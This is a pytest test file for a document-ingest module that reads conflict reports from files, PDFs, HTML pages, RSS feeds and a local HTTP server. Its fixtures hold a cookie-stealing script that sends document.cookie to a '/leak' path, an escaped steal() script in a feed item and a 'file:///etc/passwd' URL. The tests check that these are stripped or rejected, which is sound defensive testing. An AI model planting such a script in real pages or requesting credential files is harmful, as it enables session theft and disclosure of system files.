"""Readers: encodings, PDF, HTML (hostile scripts), feeds and URLs served from a local HTTP server."""

from __future__ import annotations

import contextlib
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest

from fuzz.formats import pdf_document  # the one PDF writer of the tests
from strikewatch.ingest import Rejected, feed_documents, read_documents, read_feed, read_urls
from strikewatch.ingest.urls import default_fetcher
from strikewatch.model import Document

ARTICLE = "On 3 May 2020, regime forces shelled Kansafra in Idleb countryside. No casualties were reported. " * 3
HOSTILE = f"""<html><head><title>Shelling of Kansafra</title>
<meta property="article:published_time" content="2020-05-04"></head>
<body><article><h1>Shelling of Kansafra</h1><p>{ARTICLE}</p>
<script>new Image().src = "/leak?c=" + document.cookie; window.STOLEN = "secret-token";</script>
<p>{ARTICLE}</p></article></body></html>"""
FEED = f"""<?xml version="1.0"?><rss version="2.0"><channel><title>Syria monitor</title>
<item><title>Shelling</title><link>http://example.org/a</link><pubDate>Mon, 04 May 2020 10:00:00 GMT</pubDate>
<description>&lt;p&gt;{ARTICLE}&lt;/p&gt;&lt;script&gt;steal()&lt;/script&gt;</description></item>
<item><title>Empty</title><link>http://example.org/b</link><description></description></item>
</channel></rss>"""


class _Handler(BaseHTTPRequestHandler):
    requests: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        type(self).requests.append(self.path)
        if self.path == "/slow":
            time.sleep(3)
        body, kind = {
            "/page": (HOSTILE, "text/html"),
            "/feed": (FEED, "application/rss+xml"),
            "/slow": (HOSTILE, "text/html"),
        }.get(self.path, ("missing", "text/plain"))
        self.send_response(200 if self.path != "/missing" else 404)
        self.send_header("Content-Type", kind)
        self.end_headers()
        with contextlib.suppress(BrokenPipeError):
            self.wfile.write(body.encode("utf-8"))

    def log_message(self, *_args: object) -> None:
        return


@pytest.fixture
def server() -> Iterator[str]:
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    _Handler.requests = []
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


def _one(items: list[Document | Rejected]) -> Document:
    assert len(items) == 1 and isinstance(items[0], Document), items
    return items[0]


def test_ingest_detects_legacy_encodings(tmp_path: Path) -> None:
    text = "Des frappes aériennes ont touché la région d'Idleb le 3 mai 2020, selon l'Observatoire. " * 20
    (tmp_path / "cp1252.txt").write_bytes(text.encode("cp1252"))
    document = _one(list(read_documents([tmp_path], detect_encoding=True)))
    assert "aériennes" in document.text
    assert isinstance(next(read_documents([tmp_path])), Rejected)  # strict UTF-8 for `extract`


def test_ingest_rejects_oversized_and_missing(tmp_path: Path) -> None:
    (tmp_path / "big.txt").write_text("x" * 1000, encoding="utf-8")
    items = list(read_documents([tmp_path / "big.txt", tmp_path / "nope.txt"], max_bytes=100))
    assert [type(i) for i in items] == [Rejected, Rejected]
    assert "too large" in items[0].reason and "no such file" in items[1].reason  # type: ignore[union-attr]


def test_ingest_reads_pdf_and_rejects_broken_pdf(tmp_path: Path) -> None:
    (tmp_path / "a.pdf").write_bytes(pdf_document("Kansafra", "Regime forces shelled Kansafra on 3 May 2020."))
    (tmp_path / "b.pdf").write_bytes(b"%PDF-1.4\ngarbage")
    good, bad = list(read_documents([tmp_path]))
    assert isinstance(good, Document) and "shelled Kansafra" in good.text
    assert isinstance(bad, Rejected) and "b.pdf" in bad.reason


def test_ingest_html_drops_hostile_script_and_fetches_nothing(tmp_path: Path, server: str) -> None:
    (tmp_path / "page.html").write_text(HOSTILE.replace('"/leak', f'"{server}/leak'), encoding="utf-8")
    document = _one(list(read_documents([tmp_path])))
    assert "shelled Kansafra" in document.text and document.title == "Shelling of Kansafra"
    assert "STOLEN" not in document.text and "cookie" not in document.text and "secret-token" not in document.text
    assert not any(path.startswith("/leak") for path in _Handler.requests)


def test_ingest_urls_from_local_server(server: str) -> None:
    fetcher = default_fetcher(timeout=1.0, max_bytes=1_000_000)
    page, missing, slow = read_urls([f"{server}/page", f"{server}/missing", f"{server}/slow"], fetcher)
    assert isinstance(page, Document) and page.url == f"{server}/page" and "secret-token" not in page.text
    assert isinstance(missing, Rejected) and "404" in missing.reason
    assert isinstance(slow, Rejected) and "timed out" in slow.reason
    assert not any(path.startswith("/leak") for path in _Handler.requests)


def test_ingest_feed_from_local_server(server: str) -> None:
    items = list(read_feed(f"{server}/feed", default_fetcher(timeout=2.0, max_bytes=1_000_000)))
    entry, empty = items
    assert isinstance(entry, Document) and entry.url == "http://example.org/a" and entry.source == "Syria monitor"
    assert "shelled Kansafra" in entry.text and "steal" not in entry.text and str(entry.published) == "2020-05-04"
    assert isinstance(empty, Rejected) and "no text" in empty.reason


def test_ingest_malformed_feed_is_rejected() -> None:
    (item,) = list(feed_documents(b"<html>not a feed", "bad.rss"))
    assert isinstance(item, Rejected) and "bad.rss" in item.reason


def test_ingest_only_http_urls_are_fetched() -> None:
    (item,) = list(read_urls(["file:///etc/passwd"], default_fetcher(1.0, 1000)))
    assert isinstance(item, Rejected) and "only http" in item.reason
